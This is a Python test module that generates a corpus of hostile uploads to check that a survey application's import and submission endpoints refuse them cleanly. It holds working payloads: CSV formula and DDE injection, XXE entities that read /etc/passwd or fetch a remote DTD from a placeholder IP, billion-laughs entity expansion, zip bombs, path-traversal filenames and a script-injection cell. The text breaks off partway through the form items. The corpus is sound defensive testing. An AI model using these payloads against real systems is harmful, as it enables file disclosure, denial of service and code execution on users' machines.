"""The hostile-input corpus: files and payloads that every import and the public survey
endpoints must refuse cleanly (a 4xx naming the row, column or limit; nothing written).

Everything is generated in memory (the 100,000-column and 2 M-row CSVs too), so nothing large
is committed. ``python scripts/hostile_corpus.py DIR`` writes the corpus to DIR to try by hand;
the tests in ``tests/hostile/`` import :func:`table_items`, :func:`sparse_items`,
:func:`xlsform_items`, :func:`json_items` and :func:`form_items`.
"""

from __future__ import annotations

import csv
import functools
import gzip
import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

#: What the tests check. ``refused``: the upload itself is answered with a 4xx whose text
#: matches ``message``. ``harmless``: the file may be read (it is valid or has row errors),
#: but nothing crashes and nothing is written before a confirmation.
REFUSED = "refused"
HARMLESS = "harmless"


@dataclass(frozen=True)
class Item:
    name: str
    filename: str
    build: Callable[[], bytes]
    outcome: str = REFUSED
    #: a regular expression the refusal message must match (case-insensitive)
    message: str = ""
    #: big items are sent only to one endpoint per kind (their cost is the point, not breadth)
    big: bool = False

    def data(self) -> bytes:
        return self.build()


# --- CSV ----------------------------------------------------------------------------------

HEADER = "code,name,country\n"


def _csv(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def _raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _rows(*rows: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue().encode()


def _wide_csv() -> bytes:
    return (",".join(f"c{i}" for i in range(100_000)) + "\n").encode()


def _tall_csv() -> bytes:
    return b"code\n" + b"x\n" * 2_000_000


def _long_cell() -> bytes:
    return (HEADER + "a1," + "x" * 20_000 + ",KE\n").encode()


def _one_huge_line() -> bytes:
    return b"code," + b"y" * (5 * 1024 * 1024)


CSV_ITEMS = [
    Item("csv-empty", "empty.csv", _raw(b""), message="empty"),
    Item("csv-only-bom", "bom.csv", _raw(b"\xef\xbb\xbf"), message="empty"),
    Item("csv-blank-lines", "blank.csv", _csv("\n\n \n\n"), message="empty"),
    Item(
        "csv-unterminated-quote", "quote.csv", _csv(HEADER + 'a1,"Open quote,KE\n'), message="line"
    ),
    Item(
        "csv-stray-quote",
        "stray.csv",
        _csv(HEADER + 'a1,Na"me",KE\nb2,"x"y,KE\n'),
        outcome=HARMLESS,
    ),
    Item("csv-truncated-mid-quote", "trunc.csv", _csv(HEADER + 'a1,"Trunc'), message="line"),
    Item("csv-duplicate-header", "dup.csv", _csv("code,name,code\na,b,c\n"), message="twice"),
    Item("csv-blank-header", "blankhead.csv", _csv("code,,country\na,b,KE\n"), message="column 2"),
    Item(
        "csv-extra-cells", "extra.csv", _csv(HEADER + "a1,Name,KE,surplus,more\n"), message="row 2"
    ),
    Item("csv-cell-too-long", "longcell.csv", _long_cell, message="10000|10,000|line 2"),
    Item("csv-one-5mb-line", "oneline.csv", _one_huge_line, message="line 1|10000|10,000|MB"),
    Item("csv-100000-columns", "wide.csv", _wide_csv, message="100000|100,000|500", big=True),
    Item("csv-2m-rows", "tall.csv", _tall_csv, message="200000|200,000|rows", big=True),
    Item(
        "csv-oversize-upload",
        "big.csv",
        lambda: HEADER.encode() + b"a1,Name,KE\n" * 2_000_000,
        message="MB",
        big=True,
    ),
    Item("csv-nul-byte", "nul.csv", _raw(HEADER.encode() + b"a1,Na\x00me,KE\n"), message="NUL"),
    Item("csv-nul-header", "nulhead.csv", _raw(b"co\x00de,name\n"), message="NUL"),
    Item(
        "csv-utf16-le-no-bom",
        "utf16le.csv",
        _csv(HEADER + "a1,Ñandú,AR\n", "utf-16-le"),
        message="UTF-8",
    ),
    Item(
        "csv-utf16-be-no-bom",
        "utf16be.csv",
        _csv(HEADER + "a1,Ñandú,AR\n", "utf-16-be"),
        message="UTF-8",
    ),
    Item("csv-utf32", "utf32.csv", _csv(HEADER + "a1,x,KE\n", "utf-32"), message="NUL|UTF-8"),
    Item(
        "csv-latin1", "latin1.csv", _csv(HEADER + "a1,Façade é,FR\n", "latin-1"), message="line 2"
    ),
    Item("csv-cp1252", "cp1252.csv", _csv(HEADER + "a1,“Smart”,FR\n", "cp1252"), message="line 2"),
    Item(
        "csv-mixed-utf8-latin1",
        "mixed.csv",
        _raw(HEADER.encode() + "a1,Señor,ES\n".encode() + "a2,Señor,ES\n".encode("latin-1")),
        message="line 3",
    ),
    Item(
        "csv-utf16-odd-length",
        "utf16odd.csv",
        _raw(b"\xff\xfe" + "code\n".encode("utf-16-le") + b"\x41"),
        message="NUL|UTF-8",
    ),
    Item(
        "csv-overlong-utf8",
        "overlong.csv",
        _raw(HEADER.encode() + b"a1,\xc0\xaf,KE\n"),
        message="line 2",
    ),
    Item(
        "csv-utf8-surrogate",
        "surrogate.csv",
        _raw(HEADER.encode() + b"a1,\xed\xa0\x80,KE\n"),
        message="line 2",
    ),
    Item(
        "csv-lone-continuation",
        "cont.csv",
        _raw(HEADER.encode() + b"a1,\x80\x80,KE\n"),
        message="line 2",
    ),
    Item(
        "csv-truncated-utf8",
        "truncutf8.csv",
        _raw(HEADER.encode() + b"a1,caf\xc3"),
        message="line 2",
    ),
    Item(
        "csv-png-renamed",
        "image.csv",
        _raw(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
        message="UTF-8|NUL",
    ),
    Item(
        "csv-gzip-renamed",
        "packed.csv",
        lambda: gzip.compress(HEADER.encode() * 10),
        message="UTF-8|NUL",
    ),
    Item("csv-exe-extension", "payload.exe", _csv(HEADER), message="csv"),
    Item("csv-no-extension", "membersCSV", _csv(HEADER), message="csv"),
    Item(
        "csv-traversal-filename",
        "../../etc/passwd",
        _csv("root:x:0:0:root:/root:/bin/bash\n"),
        message="csv",
    ),
    Item("csv-traversal-filename-csv", "../../../../tmp/evil.csv", _csv("\x00"), message="NUL"),
    Item("csv-windows-traversal", "..\\..\\windows\\win.ini.csv", _raw(b"\x00"), message="NUL"),
    # readable files whose hostility is in the cells: nothing may crash, nothing is written
    # before a confirmation, and exports neutralise formulas
    Item(
        "csv-formula-cells",
        "formula.csv",
        lambda: _rows(
            ["code", "name", "country"],
            ['=HYPERLINK("http://evil.invalid","x")', "+cmd|' /C calc'!A0", "@SUM(1)"],
        ),
        outcome=HARMLESS,
    ),
    Item(
        "csv-dde",
        "dde.csv",
        lambda: _rows(["code", "name", "country"], ["-2+3", '=DDE("cmd";"/C calc";"!A0")', "KE"]),
        outcome=HARMLESS,
    ),
    Item(
        "csv-control-characters",
        "control.csv",
        _csv(HEADER + "a1,Bell\x07 Esc\x1b[31m Back\x08,KE\n"),
        outcome=HARMLESS,
    ),
    Item("csv-bidi-override", "bidi.csv", _csv(HEADER + "a1,\u202egnp.exe,KE\n"), outcome=HARMLESS),
    Item(
        "csv-utf8-bom-valid",
        "bomvalid.csv",
        _csv("\ufeff" + HEADER + "a1,Name,KE\n"),
        outcome=HARMLESS,
    ),
    Item("csv-cr-only", "cr.csv", _csv("code,name,country\ra1,Name,KE\r"), outcome=HARMLESS),
    Item("csv-semicolons", "semi.csv", _csv("code;name;country\na1;Name;KE\n"), outcome=HARMLESS),
    Item(
        "csv-script-injection",
        "xss.csv",
        _csv(HEADER + "a1,<script>alert(1)</script>,KE\n"),
        outcome=HARMLESS,
    ),
]


# --- XLSX ---------------------------------------------------------------------------------

_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Types xmlns="{_PKG}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_ML}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_ML}.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="survey" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def _sheet(rows: str, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + f"<sheetData>{rows}</sheetData></worksheet>"
    )


_ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
)


def _xlsx(
    sheet: str | bytes, *, extra: dict[str, bytes] | None = None, workbook: str = _WORKBOOK
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
_XXE_FILE = '<!DOCTYPE x [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>'
_XXE_HTTP = '<!DOCTYPE x [<!ENTITY lol9 SYSTEM "http://203.0.113.7/xxe">]>'
_XXE_PARAMETER = '<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://203.0.113.7/x.dtd"> %ext;]>'


def _bomb_sheet() -> bytes:
    row = b'<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    return (
        _sheet("").encode().replace(b"<sheetData></sheetData>", b"<sheetData>" + row * 1_200_000)
        + b"</sheetData>"
    )


@functools.cache
def _bomb_workbook() -> bytes:
    """A workbook of the bomb sheet: half a second to compress, and three items hold it."""
    return _xlsx(_bomb_sheet())


def _bomb_part() -> bytes:
    return b" " * (60 * 1024 * 1024)


def _shared_strings(prolog: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        + prolog
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()


def _openpyxl(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet: Any = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _truncated_xlsx() -> bytes:
    data = _openpyxl([["code", "name"], ["a1", "x"]])
    return data[: len(data) // 2]


def _corrupt_crc() -> bytes:
    data = bytearray(
        _xlsx(_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'))
    )
    index = data.find(b"sheetData")
    if index < 0:  # compressed: flip a byte in the middle of the archive
        index = len(data) // 2
    data[index] ^= 0xFF
    return bytes(data)


def _wide_xlsx() -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>c{i}</t></is></c>' for i in range(2_000))
    return _xlsx(_sheet(f"<row>{cells}</row>"))


def _long_prolog_doctype() -> bytes:
    # the DOCTYPE hides behind a comment longer than a naive "look at the first 4 KiB" check
    return _xlsx(_sheet(_ROWS, prolog="<!--" + "p" * 8_000 + "-->" + _LAUGHS))


def _nested_zip() -> bytes:
    inner = _bomb_workbook()
    return _xlsx(_sheet(""), extra={"xl/embeddings/inner.xlsx": inner})


XLSX_ITEMS = [
    Item("xlsx-not-a-zip", "fake.xlsx", _csv(HEADER), message="valid .xlsx"),
    Item("xlsx-truncated", "truncated.xlsx", _truncated_xlsx, message="xlsx|workbook"),
    Item("xlsx-corrupt-crc", "crc.xlsx", _corrupt_crc, message="xlsx|workbook"),
    Item(
        "xlsx-empty-zip",
        "emptyzip.xlsx",
        lambda: b"PK\x05\x06" + bytes(18),
        message="xlsx|workbook",
    ),
    Item("xlsx-zip-bomb-sheet", "bomb.xlsx", _bomb_workbook, message="zip bomb"),
    Item(
        "xlsx-zip-bomb-extra-part",
        "bomb2.xlsx",
        lambda: _xlsx(_sheet(""), extra={"docProps/padding.xml": _bomb_part()}),
        message="zip bomb",
    ),
    Item(
        "xlsx-zip-bomb-shared-strings",
        "bomb3.xlsx",
        lambda: _xlsx(_sheet(""), extra={"xl/sharedStrings.xml": _bomb_part()}),
        message="zip bomb",
    ),
    Item(
        "xlsx-nested-zip-bomb", "nested.xlsx", _nested_zip, message="zip bomb|valid|workbook|empty"
    ),
    Item(
        "xlsx-billion-laughs-sheet",
        "laughs.xlsx",
        lambda: _xlsx(_sheet(_ROWS, prolog=_LAUGHS)),
        message="entities",
    ),
    Item(
        "xlsx-billion-laughs-shared-strings",
        "laughs2.xlsx",
        lambda: _xlsx(_sheet(""), extra={"xl/sharedStrings.xml": _shared_strings(_LAUGHS)}),
        message="entities",
    ),
    Item(
        "xlsx-billion-laughs-workbook",
        "laughs3.xlsx",
        lambda: _xlsx(
            _sheet(""), workbook=_WORKBOOK.replace("<workbook", _LAUGHS + "<workbook", 1)
        ),
        message="entities",
    ),
    Item(
        "xlsx-billion-laughs-behind-comment",
        "laughs4.xlsx",
        _long_prolog_doctype,
        message="entities",
    ),
    Item(
        "xlsx-xxe-file",
        "xxe.xlsx",
        lambda: _xlsx(_sheet(_ROWS, prolog=_XXE_FILE)),
        message="entities",
    ),
    Item(
        "xlsx-xxe-http",
        "xxe2.xlsx",
        lambda: _xlsx(_sheet(_ROWS, prolog=_XXE_HTTP)),
        message="entities",
    ),
    Item(
        "xlsx-xxe-parameter-entity",
        "xxe3.xlsx",
        lambda: _xlsx(_sheet(_ROWS, prolog=_XXE_PARAMETER)),
        message="entities",
    ),
    Item(
        "xlsx-xxe-shared-strings",
        "xxe4.xlsx",
        lambda: _xlsx(_sheet(""), extra={"xl/sharedStrings.xml": _shared_strings(_XXE_HTTP)}),
        message="entities",
    ),
    Item("xlsx-2000-columns", "wide.xlsx", _wide_xlsx, message="500"),
    Item(
        "xlsx-formula-cells",
        "formula.xlsx",
        lambda: _openpyxl([["code", "name", "country"], ["=1+1", '=WEBSERVICE("http://x")', "KE"]]),
        outcome=HARMLESS,
    ),
    Item(
        "xlsx-control-characters",
        "control.xlsx",
        lambda: _xlsx(
            _sheet(
                '<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'
                '<row r="2"><c r="A2" t="inlineStr"><is><t>a&#x1b;[31m&#9;b</t></is></c></row>'
            )
        ),
        outcome=HARMLESS,
    ),
]


# --- sparse workbooks (spreadsheet bombs: tiny files whose sheets reach far) --------------

_HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>country</t></is></c></row>'
)


def _far_cell(reference: str, row: int) -> str:
    return f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'


def _workbook_of(sheets: list[str], *, stored: bool = False) -> bytes:
    """A workbook of several sheets (``sheets`` are worksheet XML parts)."""
    names = "".join(
        f'<sheet name="s{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, len(sheets) + 1)
    )
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_DOC}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_ML}.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(
            "[Content_Types].xml", _CONTENT_TYPES.replace("</Types>", overrides + "</Types>")
        )
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr(
            "xl/workbook.xml",
            _WORKBOOK.replace('<sheet name="survey" sheetId="1" r:id="rId1"/>', names),
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="{_PKG}/relationships">{rels}</Relationships>',
        )
        for i, sheet in enumerate(sheets, start=1):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", sheet)
    return buffer.getvalue()


def declare_huge_dimensions(data: bytes, reference: str = "A1:AMJ1048576") -> bytes:
    """The workbook with every worksheet declaring the range ``reference`` (a common bug of
    spreadsheet programs: a sheet once formatted whole declares it), its cells unchanged."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if "worksheets/" in info.filename and info.filename.endswith(".xml"):
                text = content.decode()
                if "<dimension " in text:
                    start = text.index("<dimension ")
                    end = text.index(">", start) + 1
                    text = text[:start] + f'<dimension ref="{reference}"/>' + text[end:]
                else:
                    start = text.index("<sheetData")
                    text = text[:start] + f'<dimension ref="{reference}"/>' + text[start:]
                content = text.encode()
            target.writestr(info.filename, content)
    return buffer.getvalue()


def _declared_table() -> bytes:
    return declare_huge_dimensions(
        _openpyxl([["code", "name", "country"], ["a1", "Name", "KE"], ["a2", "Other", "UG"]])
    )


def _many_sheets(count: int) -> bytes:
    return _workbook_of([_sheet(_HEADER_ROW)] * count)


def _columns_without_references() -> bytes:
    # cells without an ``r`` take the next column: 20,000 of them reach column 20,001
    row = '<row r="2">' + "<c/>" * 20_000 + "<c><v>1</v></c></row>"
    return _workbook_of([_sheet(_HEADER_ROW + row)], stored=True)


# A BIFF8 .xls (the binary Excel 97-2003 format) inside an OLE2 compound file, written by hand
# (no .xls writer is a dependency): one sheet, the given cells, and the declared dimensions.

_CFB_END, _CFB_FREE, _CFB_FAT, _CFB_NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def _record(kind: int, payload: bytes) -> bytes:
    return struct.pack("<HH", kind, len(payload)) + payload


def _biff_string(text: str) -> bytes:
    return struct.pack("<HB", len(text), 0) + text.encode("latin-1")


def _xls(
    cells: list[tuple[int, int, str | float]], *, declared: tuple[int, int] | None = None
) -> bytes:
    """``cells`` are (row, column, value) counted from 0; ``declared`` the last row and
    column + 1 the sheet's DIMENSIONS record claims (by default: the real ones)."""
    strings = [value for _r, _c, value in cells if isinstance(value, str)]
    bof_globals = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0x0600))
    sst = _record(
        0x00FC,
        struct.pack("<II", len(strings), len(strings)) + b"".join(map(_biff_string, strings)),
    )
    codepage = _record(0x0042, struct.pack("<H", 1200))

    def boundsheet(offset: int) -> bytes:
        return _record(
            0x0085,
            struct.pack("<IBB", offset, 0, 0) + _biff_string("Sheet1")[0:1] + b"\x00" + b"Sheet1",
        )

    size = len(bof_globals + codepage + boundsheet(0) + sst) + 4
    workbook_globals = bof_globals + codepage + boundsheet(size) + sst + _record(0x000A, b"")
    last_row = max(r for r, _c, _v in cells) + 1
    last_column = max(c for _r, c, _v in cells) + 1
    rows, columns = declared or (last_row, last_column)
    body = [
        _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0, 0, 0x0600)),
        _record(0x0200, struct.pack("<IIHHH", 0, rows, 0, columns, 0)),
    ]
    index = 0
    for row, column, value in cells:
        if isinstance(value, str):
            body.append(_record(0x00FD, struct.pack("<HHHI", row, column, 0, index)))
            index += 1
        else:
            body.append(_record(0x0203, struct.pack("<HHHd", row, column, 0, value)))
    body.append(_record(0x000A, b""))
    stream = workbook_globals + b"".join(body)
    return _compound_file("Workbook", stream)


def _compound_file(name: str, stream: bytes) -> bytes:
    """An OLE2 compound file (512-byte sectors) holding one stream; the stream is padded to
    4096 bytes so it lives in ordinary sectors, not the mini stream."""
    stream = stream + bytes(max(0, 4096 - len(stream)))
    stream += bytes(-len(stream) % 512)
    sectors = len(stream) // 512
    fat = [_CFB_FAT, _CFB_END] + [3 + i for i in range(sectors - 1)] + [_CFB_END]
    fat += [_CFB_FREE] * (128 - len(fat))
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _CFB_END, 0, _CFB_END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", _CFB_FREE) * 108
    )

    def entry(label: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = (label + "\x00").encode("utf-16-le") if label else b""
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1 if kind else 0)
            + struct.pack("<III", _CFB_NONE, _CFB_NONE, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    directory = (
        entry("Root Entry", 5, 1, _CFB_END, 0)
        + entry(name, 2, _CFB_NONE, 2, len(stream))
        + entry("", 0, _CFB_NONE, 0, 0) * 2
    )
    return header + struct.pack("<128I", *fat) + directory + stream


_XLS_HEADER: list[tuple[int, int, str | float]] = [
    (0, 0, "code"),
    (0, 1, "name"),
    (0, 2, "country"),
]

#: .xls is not accepted by the table imports (they ask for .csv or .xlsx); the XLSForm import
#: reads it, and refuses these files as forms (no survey sheet) or by their size limit
XLS_REFUSED = r"is neither|not a readable XLSForm|survey|at most"

SPARSE_ITEMS = [
    Item(
        "xlsx-far-corner-xfd1048576",
        "farcorner.xlsx",
        lambda: _xlsx(_sheet(_HEADER_ROW + _far_cell("XFD1048576", 1_048_576))),
        message=r"reaches row 1048576 \(cell XFD1048576\)",
    ),
    Item(
        "xlsx-far-cell-row-200000-column-500",
        "farcell.xlsx",
        lambda: _xlsx(_sheet(_HEADER_ROW + _far_cell("SF200000", 200_000))),
        message=r"200000 rows by 500 columns .* 2,000,000 cells",
    ),
    Item(
        "xlsx-far-corner-on-second-sheet",
        "farsecond.xlsx",
        lambda: _workbook_of(
            [_sheet(_HEADER_ROW), _sheet(_HEADER_ROW + _far_cell("XFD1048576", 1_048_576))]
        ),
        message="sheet2.xml reaches row 1048576",
    ),
    Item(
        "xlsx-far-column-without-references",
        "norefs.xlsx",
        _columns_without_references,
        message="spans 20001 columns",
    ),
    Item(
        "xlsx-far-reference-behind-attribute",
        "behind.xlsx",
        lambda: _xlsx(
            _sheet(_HEADER_ROW + '<row r="9"><c a=\' r="A9"\' r="XFD9"><v>1</v></c></row>')
        ),
        message="spans 16384 columns",
    ),
    Item(
        "xlsx-far-reference-as-character-reference",
        "charref.xlsx",
        lambda: _xlsx(_sheet(_HEADER_ROW + '<row r="9"><c r="&#88;FD9"><v>1</v></c></row>')),
        message="unreadable position",
    ),
    Item(
        "xlsx-many-sheets",
        "sheets.xlsx",
        lambda: _many_sheets(300),
        message="300 sheets; at most 50",
    ),
    Item(
        "xlsx-huge-declared-dimension",
        "declared.xlsx",
        _declared_table,
        outcome=HARMLESS,
    ),
    Item(
        "xlsx-styled-empty-far-corner",
        "styled.xlsx",
        lambda: _xlsx(_sheet(_HEADER_ROW + '<row r="1048576"><c r="XFD1048576" s="0"/></row>')),
        outcome=HARMLESS,
    ),
    Item(
        "xls-far-corner-iv65536",
        "farcorner.xls",
        lambda: _xls([*_XLS_HEADER, (65_535, 255, 1.0)]),
        message=XLS_REFUSED,
    ),
    Item(
        "xls-huge-declared-dimension",
        "declared.xls",
        lambda: _xls([*_XLS_HEADER, (1, 0, "a1")], declared=(65_536, 256)),
        outcome=HARMLESS,  # a declared size alone: read (XLSForm) or refused by its type
    ),
]

#: the sparse items that are read (not refused): a declared range is not an attack
READABLE_SPARSE = {
    "xlsx-huge-declared-dimension",
    "xlsx-styled-empty-far-corner",
    "xls-huge-declared-dimension",
}


# --- XLSForm (the impact instrument import) -----------------------------------------------

_SURVEY_ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>type</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>name</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>label</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>text</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>q1</t></is></c>'
    '<c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
)

XLSFORM_ITEMS = [
    Item(
        "xlsform-billion-laughs",
        "form.xlsx",
        lambda: _xlsx(_sheet(_SURVEY_ROWS, prolog=_LAUGHS)),
        message="entities",
    ),
    Item(
        "xlsform-xxe-file",
        "form2.xlsx",
        lambda: _xlsx(_sheet(_SURVEY_ROWS, prolog=_XXE_FILE)),
        message="entities",
    ),
    Item(
        "xlsform-xxe-http",
        "form3.xlsx",
        lambda: _xlsx(_sheet(_SURVEY_ROWS, prolog=_XXE_HTTP)),
        message="entities",
    ),
    Item(
        "xlsform-xxe-workbook",
        "form4.xlsx",
        lambda: _xlsx(
            _sheet(""), workbook=_WORKBOOK.replace("<workbook", _XXE_HTTP + "<workbook", 1)
        ),
        message="entities",
    ),
    Item(
        "xlsform-laughs-behind-comment",
        "form5.xlsx",
        lambda: _xlsx(_sheet(_SURVEY_ROWS, prolog="<!--" + "p" * 8_000 + "-->" + _LAUGHS)),
        message="entities",
    ),
    Item("xlsform-zip-bomb", "form6.xlsx", _bomb_workbook, message="zip bomb"),
    Item("xlsform-not-a-zip", "form7.xlsx", _csv("type,name\n"), message="valid .xlsx"),
    Item("xlsform-csv-name", "form.csv", _csv("type,name,label\ntext,q1,Q\n"), message="XLSForm"),
    Item("xlsform-traversal-name", "../../etc/passwd", _raw(b"root"), message="xlsx|csv"),
]


# --- JSON for the public submission API ---------------------------------------------------


def _nested(depth: int) -> bytes:
    return b'{"answers": ' + b"[" * depth + b"]" * depth + b"}"


def _huge_answers() -> bytes:
    answers = ",".join(f'"k{i}": {i}' for i in range(600_000))
    head = '{"submission_id": "00000000-0000-4000-8000-000000000001", "language": "en", '
    return (head + '"consent_version": "1", "answers": {' + answers + "}}").encode()


def _huge_string() -> bytes:
    return json.dumps(
        {
            "submission_id": "00000000-0000-4000-8000-000000000002",
            "language": "en",
            "consent_version": "1",
            "matching_code": "x" * 5_000_000,
            "answers": {},
        }
    ).encode()


def _oversize_body() -> bytes:
    return b'{"answers": "' + b"z" * (21 * 1024 * 1024) + b'"}'


@dataclass(frozen=True)
class Payload:
    """A request body for the public submission API; ``valid_base`` merges fields into a
    valid submission (the test fills submission_id, language and consent)."""

    name: str
    body: Callable[[], bytes] | None = None
    fields: dict[str, object] | None = None
    content_type: str = "application/json"
    status: tuple[int, ...] = (400, 422)
    message: str = ""
    big: bool = False


JSON_ITEMS = [
    Payload("json-deeply-nested-100k", body=lambda: _nested(100_000), message="parse|JSON"),
    Payload("json-deeply-nested-2k", body=lambda: _nested(2_000), message="parse|JSON"),
    # over the largest honest submission: refused before it is parsed
    Payload("json-huge-answers", body=_huge_answers, status=(413,), message="MB", big=True),
    Payload("json-huge-string", body=_huge_string, message="matching_code|60"),
    Payload("json-oversize-body", body=_oversize_body, status=(413,), message="MB", big=True),
    Payload("json-truncated", body=lambda: b'{"submission_id": "00000000-', message="parse|JSON"),
    Payload(
        "json-invalid-utf8",
        body=lambda: b'{"matching_code": "\xff\xfe\xc0"}',
        message="parse|JSON|UTF-8",
    ),
    Payload("json-utf16-body", body=lambda: '{"answers": {}}'.encode("utf-16"), message="required"),
    Payload("json-not-an-object", body=lambda: b"[1, 2, 3]"),
    Payload("json-nan", body=lambda: b'{"answers": {"t4_conflict": NaN}}'),
    Payload("json-duplicate-keys", body=lambda: b'{"answers": {}, "answers": {}}'),
    Payload(
        "json-wrong-content-type",
        body=lambda: b"answers=1",
        content_type="application/x-www-form-urlencoded",
    ),
    Payload("json-nul-in-language", fields={"language": "e\x00n"}, message="language"),
    Payload(
        "json-control-in-answer",
        fields={"answers": {"t4_conflict": "4\x00\x1b"}},
        message="t4_conflict",
    ),
    Payload("json-lone-surrogate", body=lambda: b'{"matching_code": "\\ud800"}'),
    Payload(
        "json-huge-integer", fields={"answers": {"t4_conflict": 10**400}}, message="t4_conflict"
    ),
    Payload("json-float-infinity", body=lambda: b'{"answers": {"t4_conflict": 1e999}}'),
    Payload("json-bad-uuid", fields={"submission_id": "../../etc/passwd"}, message="submission_id"),
    Payload("json-answer-key-traversal", fields={"answers": {"../../etc/passwd": 1}}),
    Payload("json-many-unknown-keys", fields={"answers": {f"q{i}": i for i in range(5_000)}}),
]


# --- the no-JS respondent form ------------------------------------------------------------

FORM_ITEMS: list[tuple[str, bytes]] = [
    ("form-state-garbage", b"state=%00%ff../../etc/passwd&accept=on"),
